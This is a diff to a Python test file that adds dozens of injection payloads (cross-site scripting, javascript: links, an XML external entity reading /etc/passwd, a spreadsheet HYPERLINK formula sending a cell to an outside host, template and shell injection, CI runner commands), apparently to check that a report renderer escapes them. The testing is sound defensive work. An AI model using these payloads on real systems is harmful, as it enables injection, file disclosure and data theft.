@@ -63,6 +63,96 @@ PAYLOADS = {
     "backslash": "\\\\server\\share \\| \\` \\n",
     "yaml": "a: b # c",
 }
+# Each of these is tried in some fields by itself, and in every field together with others.
+MORE_PAYLOADS = {
+    # HTML: every context that a text can stand in, and readers that forgive.
+    "html-half": "<script",
+    "html-slash": "</",
+    "html-svg": "<svg/onload=alert(1)><math><mi//xlink:href='javascript:1'>",
+    "html-iframe": "<iframe srcdoc='<script>1</script>'></iframe>",
+    "html-upper": "<SCRIPT SRC=//x.example></SCRIPT>",
+    "html-null-like": "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "html-form": "<form action=//x.example><button>x</button><base href=//x.example>",
+    "html-meta": "<meta http-equiv=refresh content='0;url=//x.example'>",
+    "html-style": "<style>*{background:url(//x.example)}</style><link rel=stylesheet href=//x.example>",
+    "html-template": "<template><slot></template><noscript><p title='</noscript><img src=x>'>",
+    "html-details": "<details open ontoggle=alert(1)><summary>x</summary>",
+    "attribute-backtick": "` onmouseover=alert(1) `",
+    "attribute-single": "' autofocus onfocus=alert(1) '",
+    "attribute-unquoted": "x onerror=alert(1) y",
+    "entities-half": "&lt &#60 &#x3c &amp &quot",
+    "address-script": "javascript:alert(1)//https://x.example",
+    "address-data": "data:text/html;base64,PHNjcmlwdD4x",
+    "address-user": "https://github.com@evil.example/",
+    "address-quote": "https://x.example/'\"><script>1</script>",
+    "address-scheme": "//evil.example vbscript:x file:///etc/passwd",
+    # Markdown: what only some renderers read.
+    "markdown-html": "<b onclick=alert(1)>x</b> <!-- y -->",
+    "markdown-html-block": "<div>",
+    "markdown-reference": "[x]: javascript:alert(1) 'y'",
+    "markdown-reference-use": "[x][] ![x] [x]",
+    "markdown-footnote": "[^1] [^1]: note",
+    "markdown-task": "- [x] done",
+    "markdown-table-row": "| a | b |",
+    "markdown-table-rule": "|---|---|",
+    "markdown-escapes": "\\* \\_ \\[ \\",
+    "markdown-ticks": "` `` ``` ````",
+    "markdown-tildes": "~~~",
+    "markdown-plus": "+ item",
+    "markdown-star": "* item",
+    "markdown-bracket": "1) item",
+    "markdown-stars": "***",
+    "markdown-underscores": "___ a_b_c _d_",
+    "markdown-math": "$$x$$ $`y`$",
+    "markdown-alert": "> [!CAUTION] x",
+    "markdown-emoji": ":warning: :octocat:",
+    "markdown-hash": "#123 # a ## b",
+    "markdown-link-nested": "[![a](b)](javascript:c) <javascript:d>",
+    "markdown-indent": "code after four blanks",
+    "markdown-bare": "HTTPS://EVIL.EXAMPLE ftp://x.example mailto:a@b.example xmpp:a@b.example",
+    # Commands of runners, at the start, inside, and in pieces.
+    "command-stop": "::stop-commands::x",
+    "command-set-output": "::set-output name=passed::true",
+    "command-blank-before": "\u00a0::error::x",
+    "command-upper": "::ERROR::x",
+    "command-group": "::group::x ::endgroup::",
+    "command-mask": "##[add-mask]x",
+    "command-azure": "##vso[task.setvariable variable=x]y",
+    "command-teamcity": "##teamcity[buildStatus status='SUCCESS' text='x']",
+    "command-section-end": "section_end:1:x section_start:2:y[collapsed=true]",
+    "command-colons": ":::::: : :: :",
+    "command-hashes": "##### ##a[ ## [",
+    "command-half": "##",
+    "command-colon": ":",
+    # Spreadsheets, XML, JSON, SARIF, annotations.
+    "formula-minus": "-1+1|cmd",
+    "formula-tab-like": " =1+1",
+    "formula-wide": "＝1+1 ＋1 －1 ＠x",
+    "formula-quote": "'=1+1",
+    "formula-link": '=HYPERLINK("http://x.example?"&A1,"x")',
+    "csv-quotes": '"""" "," ";"',
+    "xml": "]]> <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]> &y;",
+    "xml-half": "<![CDATA[",
+    "json-escapes": '\\u0000 \\" \\',
+    "json-script": "</script><!--<script>",
+    "sarif-links": "[x](https://x.example) ](2) {{0}} {{",
+    "annotation": "a,line=1,title=x::y%3A%2C",
+    "percent-encoded": "%2e%2e%2f %00 %zz %",
+    "path-absolute": "/etc/passwd",
+    "path-windows": "C:\\Windows\\x",
+    "path-scheme": "file:///etc/passwd",
+    "template-other": "<%= 1 %> #{1} ${7*7} [[1]] {{constructor.constructor('1')()}}",
+    "shell": "$(touch marker) `touch marker` ; touch marker | x && y",
+    # Characters that are legal, and take room in odd ways.
+    "wide": "漢字かな交じり文" * 12,
+    "wide-word": "漢" * 900,
+    "combining": "e" + "\u0301" * 60,
+    "joiners": "a\u200db\u200cc\u00add",
+    "blanks": "a\u00a0\u2003b\u3000c",
+    "tags": "\U0001f3f4\U000e0067\U000e0062\U000e007f",
+    "private": "\ue000 \U000f0000",
+    "capital-sharp": "ẞ İ ı ſ K",
+}
 CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 
 
@@ -282,10 +372,21 @@ def test_a_payload_in_every_field_changes_no_structure(rendered: Callable[..., d
     compare(rendered(), rendered(**dict.fromkeys(FIELDS, PAYLOADS[payload])), payload)
 
 
+@pytest.mark.parametrize("turn", range(0, len(MORE_PAYLOADS), 4))
+def test_different_payloads_in_different_fields_change_no_structure(
+    rendered: Callable[..., dict[str, str]], turn: int
+) -> None:
+    names = list(MORE_PAYLOADS)
+    placed = {field: names[(turn + place) % len(names)] for place, field in enumerate(FIELDS)}
+    texts = {field: MORE_PAYLOADS[name] for field, name in placed.items()}
+    compare(rendered(), rendered(**texts), str(placed))
+
+
 @pytest.mark.parametrize("field", FIELDS)
 def test_all_payloads_in_one_field_change_no_structure(rendered: Callable[..., dict[str, str]], field: str) -> None:
-    everything = " ".join(text for text in PAYLOADS.values() if len(text) < 200)
-    compare(rendered(), rendered(**{field: everything}), field)
+    short = [text for text in (*PAYLOADS.values(), *MORE_PAYLOADS.values()) if len(text) < 200]
+    for part in (short[::3], short[1::3], short[2::3]):  # together they would be longer than a line may be
+        compare(rendered(), rendered(**{field: " ".join(part)}), field)
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -302,6 +403,9 @@ def compare(benign: dict[str, str], hostile: dict[str, str], what: str) -> None:
         read = reader_of(name)
         assert read(text) == read(benign[name]), f"{what} as {name}"
         assert not CONTROLS.search(text), f"{what} as {name}"
+        # Whoever prints a report in a job must not find its lines obeyed. Annotations are the one format of commands.
+        told = re.sub("^::(error|warning|notice) .*", "", text, flags=re.MULTILINE) if name == "github" else text
+        assert not re.search(r"^\s*::|##\w*\[|section_(?:start|end):", told, re.MULTILINE), f"{what} as {name}"
 
 
 def test_the_badge_holds_no_text_of_a_plan(rendered: Callable[..., dict[str, str]]) -> None:
